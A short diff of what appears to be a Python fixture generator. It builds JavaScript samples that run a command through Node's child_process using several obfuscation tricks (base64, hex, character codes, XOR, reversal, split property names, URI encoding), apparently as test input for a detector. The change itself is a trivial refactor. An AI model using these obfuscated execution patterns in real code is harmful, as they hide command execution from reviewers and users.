@@ -70,7 +70,7 @@ SCRIPT = {
     "js-atob": f"require('child_process').execSync(atob('{B64}'));\n",
     "js-buffer": f"const c = require('child_process');\nc.exec(Buffer.from('{HEX}', 'hex').toString());\n",
     "js-codes": f"const {{ exec }} = require('child_process');\nexec(String.fromCharCode({', '.join(map(str, RAW))}));\n",
-    "js-map": f"const cp = require('child_process');\ncp.execSync({list(byte ^ 9 for byte in RAW)}.map(c => String.fromCharCode(c ^ 9)).join(''));\n",
+    "js-map": f"const cp = require('child_process');\ncp.execSync({[byte ^ 9 for byte in RAW]}.map(c => String.fromCharCode(c ^ 9)).join(''));\n",
     "js-reverse": f"require('child_process').exec('{LINE[::-1]}'.split('').reverse().join(''));\n",
     "js-computed": f"const m = require('child_' + 'process');\nm['ex' + 'ec' + 'Sync']('{LINE}');\n",
     "js-uri": f"require('child_process').execSync(decodeURIComponent('{urllib.parse.quote(LINE, safe='')}'));\n",
